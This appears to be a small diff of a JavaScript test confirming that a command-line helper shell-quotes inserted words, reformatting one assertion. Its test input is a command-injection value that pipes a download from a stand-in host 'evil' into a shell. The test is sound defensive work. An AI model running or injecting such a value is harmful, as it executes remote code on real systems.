@@ -15,6 +15,8 @@ describe('commandLine', () => {
   });
 
   it('quotes an inserted word for a shell', () => {
-    expect(commandLine()`rotate ${'x; curl evil | sh'}`).toBe("genesys-token-rotation rotate 'x; curl evil | sh'");
+    expect(commandLine()`rotate ${'x; curl evil | sh'}`).toBe(
+      "genesys-token-rotation rotate 'x; curl evil | sh'",
+    );
   });
 });
